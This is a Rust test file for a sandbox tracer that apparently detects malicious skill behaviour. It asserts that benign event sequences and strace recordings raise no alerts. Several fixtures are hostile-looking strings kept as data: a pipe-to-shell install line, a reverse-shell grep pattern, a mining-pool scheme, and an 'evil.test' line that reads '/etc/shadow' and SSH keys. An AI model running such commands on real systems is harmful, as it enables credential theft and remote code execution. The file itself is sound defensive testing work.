//! Honest programs: as they were recorded, and as a sandbox would have refused them.

use std::fs;
use std::path::Path;

use skillsandbox_tracer::{Event, EventKind, EventVerdict};

use crate::script::{classify, event, of};

/// Sequences that nobody should be accused of.
const HONEST: &[(&str, &[&str])] = &[
    ("nothing", &[]),
    (
        "a check for updates",
        &[
            "denied lookup updates.vendor.test by /usr/bin/node",
            "denied reach updates.vendor.test:443 by /usr/bin/node",
        ],
    ),
    (
        "a few undeclared hosts",
        &[
            "denied lookup a.test",
            "denied lookup b.test",
            "denied reach c.test:443",
            "denied lookup telemetry.d.test",
        ],
    ),
    (
        "curl and its files",
        &[
            "failed read /home/u/.curlrc by /usr/bin/curl",
            "failed read /home/u/.netrc by /usr/bin/curl",
            "denied lookup undeclared.test by /usr/bin/curl",
        ],
    ),
    (
        "npm and its files",
        &[
            "denied read /home/u/.npmrc by /usr/bin/node",
            "failed read /home/u/.yarnrc by /usr/bin/node",
            "denied reach registry.test:443 by /usr/bin/node",
        ],
    ),
    (
        "pip and its files",
        &[
            "failed read /home/u/.config/pip/pip.conf by /usr/bin/python3",
            "failed read /home/u/.netrc by /usr/bin/python3",
            "denied lookup pypi.test by /usr/bin/python3",
        ],
    ),
    (
        "ssh and its files",
        &[
            "allowed read /home/u/.ssh/id_rsa by /usr/bin/ssh",
            "allowed read /home/u/.ssh/config by /usr/bin/ssh",
            "denied reach host.test:22 by /usr/bin/ssh",
        ],
    ),
    (
        "kubectl and its files",
        &[
            "allowed read /home/u/.kube/config by /usr/bin/kubectl",
            "denied reach cluster.test:6443 by /usr/bin/kubectl",
        ],
    ),
    (
        "a granted key, and what it is for",
        &[
            "allowed read /home/u/.aws/credentials by /usr/bin/python3",
            "allowed reach s3.test:443 sent=1000000 by /usr/bin/python3",
        ],
    ),
    (
        "accounts by number",
        &[
            "denied read /etc/passwd by /usr/bin/python3",
            "denied read /etc/group by /usr/bin/git",
            "failed read /etc/nsswitch.conf by /usr/bin/git",
        ],
    ),
    (
        "node and its package.json",
        &[
            "failed read /home/u/project/package.json by /usr/bin/node",
            "denied read /home/u/package.json by /usr/bin/node",
            "denied read /home/package.json by /usr/bin/node",
            "failed read /package.json by /usr/bin/node",
            "denied read /home/u/node_modules/x/index.js by /usr/bin/node",
            "denied read /root/tsconfig.json by /usr/bin/node",
        ],
    ),
    (
        "python and its caches",
        &[
            "denied write /usr/lib/python3/__pycache__/x.pyc by /usr/bin/python3",
            "denied make_folder /home/u/skill/__pycache__ by /usr/bin/python3",
            "failed read /usr/lib/python3/sitecustomize.py by /usr/bin/python3",
        ],
    ),
    (
        "the own process",
        &[
            "allowed read /proc/self/maps",
            "allowed read /proc/self/status",
            "allowed read /proc/4711/status by /usr/bin/node",
            "allowed read /proc/self/environ by /usr/bin/node",
            "denied read /proc/self/mem",
        ],
    ),
    (
        "cgroups and the machine",
        &[
            "denied read /sys/fs/cgroup/memory.max by /usr/bin/node",
            "denied read /proc/meminfo",
            "denied read /sys/devices/system/cpu/online",
            "denied read /proc/sys/vm/overcommit_memory",
            "denied read /proc/version",
        ],
    ),
    (
        "calls that are tried first",
        &[
            "refused clone3",
            "refused openat2",
            "refused io_uring_setup",
            "refused get_mempolicy",
            "refused name_to_handle_at",
            "refused statmount",
            "refused keyctl",
            "refused socket other families of sockets",
            "refused perf_event_open",
            "refused setsockopt",
            "refused ioctl something else",
            "refused memfd_secret",
        ],
    ),
    ("limits of honest work", &["limit cpu"]),
    ("memory that is not enough", &["limit memory"]),
    ("time that is over", &["limit timeout", "limit cpu"]),
    (
        "curl into a reader",
        &[
            "allowed exec /usr/bin/curl -- curl -s https://a.test/x.json",
            "allowed exec /usr/bin/jq -- jq .name",
        ],
    ),
    (
        "curl into a formatter",
        &[
            "allowed exec /bin/sh -- sh -c \"curl -s https://a.test/x.json | python3 -m json.tool\"",
            "allowed exec /usr/bin/curl -- curl -s https://a.test/x.json",
            "allowed exec /usr/bin/python3 -- python3 -m json.tool",
        ],
    ),
    (
        "curl to a file, and then a script of one's own",
        &[
            "allowed exec /usr/bin/curl -- curl -fsSLo data.csv https://a.test/data.csv",
            "allowed exec /usr/bin/python3 -- python3 work.py data.csv",
            "allowed exec /bin/bash -- bash -c \"curl -s https://a.test > x; bash build.sh\"",
        ],
    ),
    (
        "curl into filters",
        &[
            "allowed exec /bin/sh -- sh -c \"curl -s https://a.test | perl -pe's/a/b/' | python3 -c print(1) | node -e 1 | ruby -ne 'puts $_'\"",
            "allowed exec /usr/bin/curl -- curl -s https://a.test",
            "allowed exec /usr/bin/perl -- perl -pe s/a/b/",
            "allowed exec /usr/bin/ruby -- ruby -nes/a/b/",
        ],
    ),
    (
        "a table that was fetched, and a script that reads it",
        &[
            "allowed exec /usr/bin/curl -- curl -O https://a.test/data/table.csv",
            "allowed exec /usr/bin/python3 -- python3 -u work.py table.csv",
        ],
    ),
    (
        "words about attacks",
        &[
            "allowed exec /bin/sh -- sh -c \"echo 'to install: curl https://a.test/i.sh | sh'\"",
            "allowed exec /bin/sh -- sh -c \"grep -rn 'bash -i >& /dev/tcp/' . | wc -l\"",
            "allowed exec /usr/bin/grep -- grep -r stratum+tcp:// .",
            "allowed exec /bin/bash -- bash -c \"bash build.sh $(curl -s https://a.test/version)\"",
            "allowed exec /bin/bash -- bash -c \"python3 work.py $(curl -s https://a.test/version)\"",
        ],
    ),
    (
        "programs that have names of others",
        &[
            "allowed exec /home/u/project/bin/batch -- batch --all",
            "failed exec /home/u/project/pass -- pass show",
            "allowed exec /home/u/project/at -- at",
            "allowed exec /usr/bin/aws -- aws configure get region",
        ],
    ),
    (
        "cargo of a user",
        &["failed read /home/u/.cargo/credentials.toml by /home/u/.rustup/toolchains/stable/bin/cargo"],
    ),
    ("curl or else", &["allowed exec /bin/sh -- sh -c \"curl -sf https://a.test/health || sh fallback.sh\""]),
    (
        "a few looks at the machine",
        &[
            "allowed exec /usr/bin/whoami -- whoami",
            "allowed exec /usr/bin/uname -- uname -a",
            "allowed exec /usr/bin/id -- id",
            "allowed exec /usr/bin/ps -- ps aux",
            "allowed exec /usr/bin/hostname -- hostname",
        ],
    ),
    (
        "git init and its samples",
        &[
            "allowed write /home/u/project/.git/hooks/pre-commit.sample by /usr/bin/git",
            "allowed write /home/u/project/.git/config by /usr/bin/git",
            "allowed rename /home/u/.gitconfig.lock /home/u/.gitconfig by /usr/bin/git",
        ],
    ),
    (
        "reading start-up files",
        &[
            "allowed read /home/u/.bashrc by /bin/bash",
            "allowed read /etc/profile by /bin/bash",
            "failed read /home/u/.bash_profile by /bin/bash",
            "allowed read /home/u/.bash_history by /bin/bash",
        ],
    ),
    (
        "names of content networks",
        &[
            "allowed lookup d111111abcdef8.cloud.test",
            "allowed lookup d222222abcdef8.cloud.test",
            "allowed lookup d333333abcdef8.cloud.test",
            "allowed lookup d444444abcdef8.cloud.test",
            "allowed lookup d555555abcdef8.cloud.test",
            "allowed lookup d666666abcdef8.cloud.test",
        ],
    ),
    (
        "one long name, again and again",
        &["500 denied lookup 4a6f686e20446f65206b657973206172652068657265.bucket.test"],
    ),
    (
        "the machine itself",
        &[
            "denied reach 127.0.0.1:5432",
            "denied reach [::1]:6379",
            "denied reach localhost:3333",
            "denied lookup localhost",
        ],
    ),
    (
        "settings of the project",
        &[
            "allowed read /home/u/project/.env by /usr/bin/node",
            "failed read /home/u/project/.env.local by /usr/bin/node",
        ],
    ),
    (
        "output that talks of attacks",
        &["stdout x cat /etc/shadow /home/u/.ssh/id_rsa curl evil.test | sh", "stripped 7"],
    ),
    (
        "chmod of one's own",
        &[
            "allowed change_mode /tmp/x by /bin/chmod",
            "allowed exec /bin/chmod -- chmod +x /tmp/x",
            "allowed exec /bin/chmod -- chmod 755 src",
        ],
    ),
    ("the list of scheduled tasks", &["denied exec /usr/bin/crontab -- crontab -l"]),
    (
        "certificates",
        &[
            "allowed read /etc/ssl/certs/ca-certificates.crt",
            "failed read /etc/ssl/openssl.cnf",
            "denied read /home/u/.pki/nssdb",
        ],
    ),
];

#[test]
fn honest_sequences_amount_to_nothing() {
    for (name, lines) in HONEST {
        let (tags, all) = classify(lines.iter().map(|line| event(line)));
        assert!(all.is_empty(), "{name}: {all:#?}");
        assert!(tags.iter().all(Option::is_none), "{name}: {tags:?}");
    }
}

/// What real programs did, recorded with strace; see `tests/benign/README.md`.
fn recorded() -> Vec<(String, Vec<Event>)> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/benign");
    let mut all = Vec::new();
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|extension| extension == "txt") {
            let name = path.file_stem().unwrap().to_string_lossy().into_owned();
            all.push((name, read(&fs::read_to_string(&path).unwrap())));
        }
    }
    all.sort_by(|one, two| one.0.cmp(&two.0));
    assert!(all.len() >= 20, "only {} recordings", all.len());
    all
}

fn read(text: &str) -> Vec<Event> {
    let mut binary = String::new();
    let mut events = Vec::new();
    for line in text.lines() {
        let parts: Vec<&str> = line.split('\t').collect();
        let line = match parts[..] {
            ["by", path] => {
                path.clone_into(&mut binary);
                continue;
            }
            [verdict, "exec", path, argv] => format!("{verdict} exec {path} -- {argv}"),
            [verdict, "reach", address, port] if address.contains(':') => {
                format!("{verdict} reach [{address}]:{port}")
            }
            [verdict, "reach", address, port] => format!("{verdict} reach {address}:{port}"),
            [verdict, operation, path] => format!("{verdict} {operation} {}", path.replace(' ', "_")),
            [verdict, operation, path, to] => format!("{verdict} {operation} {path} {to}"),
            _ => panic!("{line:?}"),
        };
        events.push(event(&format!("{line} by {binary}")));
    }
    assert!(!events.is_empty());
    events
}

fn is_project(event: &Event) -> bool {
    matches!(&event.kind, EventKind::File { path, .. } if path.starts_with("/home/somebody/project"))
}

fn is_outside(event: &Event) -> bool {
    match &event.kind {
        EventKind::File { path, .. } | EventKind::Exec { path, .. } => {
            // The home folder itself is always there, though it is another one.
            path != "/home/somebody"
                && path.starts_with("/home/")
                && !path.starts_with("/home/somebody/project")
                || path.starts_with("/root")
        }
        EventKind::NetConnect(_) => true,
        _ => false,
    }
}

#[test]
fn row_142_recorded_honest_programs_amount_to_nothing() {
    for (name, events) in recorded() {
        let refuse = |which: fn(&Event) -> bool| {
            events.iter().cloned().map(move |mut event| {
                if which(&event) {
                    event.verdict = Some(EventVerdict::Denied);
                }
                event
            })
        };
        let ways = [
            ("as recorded", classify(refuse(|_| false))),
            (
                "with everything refused that was not there",
                classify(refuse(|event| event.verdict == Some(EventVerdict::Failed) && !is_project(event))),
            ),
            ("with everything refused outside of the project", classify(refuse(is_outside))),
        ];
        for (way, (tags, all)) in ways {
            assert!(all.is_empty(), "{name}, {way}: {all:#?}");
            assert!(tags.iter().all(Option::is_none), "{name}, {way}");
        }
    }
}

#[test]
fn all_recorded_programs_in_one_run_amount_to_nothing() {
    let events = recorded().into_iter().flat_map(|(_, events)| events);
    let (_, all) = classify(events);
    assert!(all.is_empty(), "{all:#?}");
    assert!(of(&[]).is_empty());
}
